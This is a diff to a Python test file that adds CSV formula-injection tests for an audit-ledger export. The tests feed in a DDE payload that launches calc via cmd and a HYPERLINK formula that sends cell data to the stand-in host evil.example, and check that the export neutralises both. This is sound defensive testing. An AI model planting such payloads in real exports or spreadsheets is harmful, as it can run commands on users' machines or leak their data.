@@ -14,14 +14,16 @@ import pytest
 import rfc8785
 from click.testing import CliRunner
 from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from atmp.cli.main import main
 from atmp.ledger import checkpoints, keys
-from atmp.ledger.export import CSV_COLUMNS, jsonl_line
+from atmp.ledger.export import CSV_COLUMNS, FORMULA_STARTS, jsonl_line, original_cell, safe_cell
 from atmp.ledger.models import AuditEntry
 from atmp.ledger.selectors import ENTRY_COLUMNS
 from atmp.ledger.tests.test_canonical import HEX64, columns_of, entries
 from atmp.ledger.tests.test_verify import populate
+from atmp.testing import make_site, make_user, rename_site
 
 pytestmark = pytest.mark.django_db
 
@@ -95,7 +97,30 @@ def test_csv_has_the_documented_columns_and_every_stored_value(qa_reviewer, qa_a
         "record_version", "reason", "changes", "snapshot_hash", "prev_hash", "hash",
     )  # fmt: skip
     stored = AuditEntry.objects.order_by("seq").values_list(*ENTRY_COLUMNS)
-    assert rows[1:] == [["" if v is None else str(v) for v in row] for row in stored]
+    assert [[original_cell(c) for c in row] for row in rows[1:]] == [
+        ["" if v is None else str(v) for v in row] for row in stored
+    ]
+
+
+def test_it_neutralises_formula_cells_in_the_csv_and_keeps_the_jsonl_exact(qa_reviewer):
+    mallory = make_user("qa_reviewer", full_name="+cmd|' /C calc'!A0")
+    site = make_site(actor=qa_reviewer, name="Leiden")
+    rename_site(site, '=HYPERLINK("http://evil.example/?"&A1,"open")', actor=mallory, reason="@SUM(A1:A9)")
+    rename_site(site, "Leiden", actor=qa_reviewer, reason="-1+1")
+    rows = list(csv.reader(io.StringIO(export("--format", "csv"))))
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or c.startswith("-1+")]
+    assert "'@SUM(A1:A9)" in cells and "'+cmd|' /C calc'!A0" in cells and "'-1+1" in cells
+    reasons = [json.loads(line)["reason"] for line in export().splitlines()]
+    assert "@SUM(A1:A9)" in reasons and "-1+1" in reasons
+
+
+@given(st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "1", ".", "a", " "]), max_size=8))
+def test_a_neutralised_cell_never_starts_a_formula_and_gives_back_its_value(value):
+    cell = safe_cell(value)
+    assert original_cell(cell) == value
+    if cell.startswith(FORMULA_STARTS):
+        float(cell)  # only a plain number may start with + or -
 
 
 # --- filters --------------------------------------------------------------------------------------
